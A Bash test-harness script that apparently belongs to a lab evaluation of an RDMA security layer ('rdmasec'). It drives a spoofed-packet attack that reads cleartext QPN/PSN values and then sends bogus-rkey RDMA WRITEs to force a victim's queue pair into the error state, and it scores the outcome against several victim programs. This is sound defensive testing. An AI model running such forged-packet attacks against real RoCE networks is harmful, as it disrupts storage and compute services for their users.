# SPDX-License-Identifier: MIT
# A2 (qp-error): the attacker on host 3 reads one request's BTH off the bridge
# (destination QPN and PSN are cleartext in every RoCE packet), then sends
# RDMA WRITEs with an rkey the victim never issued, spoofing the client's
# address, from the next PSN on (a forward sweep for streaming victims, whose
# PSN moves on while the attacker works). The one that matches the expected
# PSN moves the server's QP to the error state.
# Where the sweep cannot catch a stream that runs as fast as it (ib_send_bw,
# ucmatose's bulk direction), the cell aims at the victim's other QP, which
# sits still at a PSN told in clear: ib_send_bw's client (its server never
# sends a request; the plaintext exchange told the server's PSN) and
# ucmatose's server (its client sends nothing until it replies; the rdma_cm
# REP told the server's QPN and the PSN it expects). One packet.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"

# The hit check polled by the rounds (cells/common.bash): the attacked
# side's own error, else rxe's ERR state of the target QP, else the other
# side's error; prints it, returns 1 if none.
_cell_qp_error_hit() {
	local l
	cell_victim_error_line dst && return 0
	cell_qp_snapshot
	l=$(cell_server_qp_err) && { printf '%s' "$l"; return 0; }
	cell_victim_error_line
}

# mpi-verbs: rank 0's QP in ERR, or the job broke.
_cell_qp_error_mpi_hit() {
	cell_mpi_verbs_hit _cell_qp_error_hit "bogus-rkey WRITEs at its PSN"
}

cell_qp_error() {
	local v=$1 count=200000 line ap
	# nvmf: the broken target QP is silent; the host finds out when an I/O
	# times out: 10 s instead of the kernel's 30 (the cell waits for it).
	[ "$v" = nvmf ] && VICTIM_SECONDS=60 NVMF_IO_TIMEOUT=10
	# These retry until judged: the victim lives on until then.
	case "$v" in naive | rdmasec | pingpong | rping | mpi-*) cell_victim_for_the_cell ;; esac
	[ "$v" = ucmatose ] && cell_cm_capture_start
	cell_victim_start "$v" || { matrix_result qp-error "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
	cell_cm_stop
	# Streaming victims: a request captured now, so the sweep catches up with the PSN in time.
	case "$v" in
	naive | rdmasec) victim_wire_bth ;;
	# ib_write_bw's client QP waits at the PSN the exchange told: one exact packet.
	write_bw) victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
	send_bw) cell_aim_at_client && victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
	# Their rounds capture their own.
	pingpong | rping | mpi-*) true ;;
	*) victim_wire_bth --now ;;
	esac ||
		{ matrix_result qp-error "$v" error "" "no RoCE request (or QPN/PSN told in clear) seen"; victim_stop; return; }
	# MPI: rounds of 20000 PSNs, each from a request seen then.
	case "$v" in
	mpi-verbs)
		cell_stream_rounds _cell_qp_error_mpi_hit qp-error 20000 --kind rkey --rkey 0x1234
		cell_mpi_verdict qp-error "" ""
		return
		;;
	mpi-rdmasec)
		# shellcheck disable=SC2034 # read by cell_mpi_audit_hit
		CELL_MPI_EVENTS='qp_error|protocol_violation|mac_failure|seq_violation'
		cell_stream_rounds cell_mpi_audit_hit qp-error 20000 --kind rkey --rkey 0x1234
		cell_mpi_verdict qp-error qp_error \
			"the transport killed the QP (rdmasec cannot prevent that); the provider's connection counted the QP error and rebuilt its data path over TLS (new QP, PSNs, keys); the MPI job went on, every message checked"
		return
		;;
	esac
	# nvmf: the sweep ends when the target's kernel logs the broken queue.
	if [ "$v" = nvmf ]; then
		fabric on 3 "$ATK" qp-error --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
			--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):40000" --iface fab3 --sport 4242 \
			--kind rkey --rkey 0x1234 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
		cell_nvmf_watch $! 40
		echo "qp-error exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
		cell_nvmf_verdict qp-error "bogus-rkey WRITEs from PSN $((WIRE_PSN + 1)) at QP $WIRE_QPN"
		return
	fi
	case "$v" in
	naive) cell_exact_rounds _cell_qp_error_hit qp-error --kind rkey --rkey 0x1234 ;;
	rdmasec) cell_exact_rounds cell_rdmasec_hit qp-error --kind rkey --rkey 0x1234 ;;
	# pingpong: rounds of 20000 PSNs (about 3 s idle), each from a request seen then.
	pingpong) cell_stream_rounds _cell_qp_error_hit qp-error 20000 --kind rkey --rkey 0x1234 ;;
	# rping: its PSN moves on by tens to hundreds a second, and a sweep has one chance only (once
	# the packet at the expected PSN is lost, the rest run ahead of the QP): short rounds, each from
	# a request seen then, until the server's QP fails or the cell's time is up (a loaded machine
	# once missed with one long sweep).
	rping) cell_stream_rounds _cell_qp_error_hit qp-error 2000 --kind rkey --rkey 0x1234 ;;
	*)
		# These hold still at the next PSN: one exact packet.
		case "$v" in write_bw | send_bw | ucmatose) count=1 ;; esac
		fabric on 3 "$ATK" qp-error --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
			--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):$count" --iface fab3 --sport 4242 \
			--kind rkey --rkey 0x1234 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
		ap=$!
		cell_watch_qp $ap
		;;
	esac
	echo "qp-error exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
	# ucmatose prints nothing when its QP breaks: rxe's state right after the packet shows it.
	[ "$v" = ucmatose ] && cell_final_qp_check
	victim_attack_done
	case "$v" in
	naive | pingpong | rping) victim_stop ;;
	rdmasec) cell_rdmasec_end ;;
	*) victim_wait 12 ;;
	esac
	if [ "$v" = rdmasec ]; then
		if line=$(cell_rdmasec_rebuilt qp_errors); then
			matrix_result qp-error "$v" blocked \
				"the transport killed the QP (rdmasec cannot prevent that); the server counted the QP error, the data path was rebuilt over TLS (new QP, PSNs, keys); the stream went on" \
				"$line"
		# Rebuilding off (or out of its budget): the connection closes on the fault.
		elif line=$(cell_rdmasec_closed_line) && grep -q 'code="queue pair in error state"' <<<"$line"; then
			matrix_result qp-error "$v" detected \
				"QP error surfaced as RSEC_E_QP: server logs and counts it, tells the client over TLS; other connections unaffected" \
				"$line"
		elif grep -q 'reply: after the attack' "$VICTIM_CLIENT_LOG"; then
			matrix_result qp-error "$v" error "" "attack missed, connection carried on: $(victim_grep "$VICTIM_CLIENT_LOG" 'reply: after')"
		else
			matrix_result qp-error "$v" error "" "neither healed nor closed on the fault ($CELL_SENT forged sent): $(cell_rdmasec_undecided)"
		fi
		return
	fi
	# The rounds judged it already.
	if [ -n "${CELL_HIT:-}" ]; then
		matrix_result qp-error "$v" succeeded "" "$CELL_EVIDENCE"
		return
	fi
	# perftest's server waits passively: rxe's QP state shows the kill.
	if line=$(cell_broken_evidence) || { [ "$v" = ucmatose ] && line=$(cell_ucmatose_broken); }; then
		matrix_result qp-error "$v" succeeded "" "$line"
	else
		matrix_result qp-error "$v" error "" "missed: no QP error ${CELL_ROUNDS:+in $CELL_ROUNDS }while the sweeps ran (the PSN moved past them); server's last line: $(tail -n 1 "$VICTIM_SERVER_LOG")"
	fi
}
